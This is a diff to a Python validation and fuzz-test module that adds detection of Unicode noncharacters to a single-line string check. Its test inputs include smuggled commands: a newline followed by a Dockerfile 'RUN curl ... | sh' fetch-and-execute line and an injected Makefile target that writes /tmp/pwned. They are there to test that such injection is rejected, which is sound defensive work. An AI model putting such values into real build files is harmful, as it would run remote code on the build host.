@@ -83,8 +83,6 @@ TRICKY_TEXT = [
     "\U0010fffd",
     "\ufeff",
     "\ufffd",
-    "\ufffe",
-    "\uffff",
     "ǅ",
     "ß",
     "İ",
@@ -105,12 +103,25 @@ LINE_BREAKING = [
     "\u2028",
     "\u2029",
     "\nRUN curl http://example.invalid | sh",
+    "\ufffe",
+    "\uffff",
+    "\U0010ffff",
+    "\ufdd0",
     "\n.PHONY: pwn\npwn:\n\ttouch /tmp/pwned",
 ]
 SPACE_AT_EDGE = [" ", "  ", "\u00a0", "\u3000"]
 
+
+def _is_noncharacter(char: str) -> bool:
+    """One of Unicode's 66 noncharacters: U+FDD0-U+FDEF and the last two of every plane."""
+    code = ord(char)
+    return 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE
+
+
 _WORDS = st.text(st.characters(codec="ascii", categories=("L", "N")), min_size=1, max_size=8)
-_ANY = st.text(st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=4)
+_ANY = st.text(
+    st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=4
+).filter(lambda s: not any(_is_noncharacter(c) for c in s))
 _PIECE = st.one_of(_WORDS, _WORDS, st.just(" "), st.sampled_from(TRICKY_TEXT), _ANY)
 
 
@@ -242,6 +253,8 @@ SLUG_MAX = {("terraform", "rest-api"): 48}
 def _one_line(value: str) -> str | None:
     if _LINE_BREAKING.search(value):
         return "must be a single line"
+    if any(_is_noncharacter(c) for c in value):
+        return "noncharacter"
     if value != value.strip():
         return "starts or ends with white space"
     return None
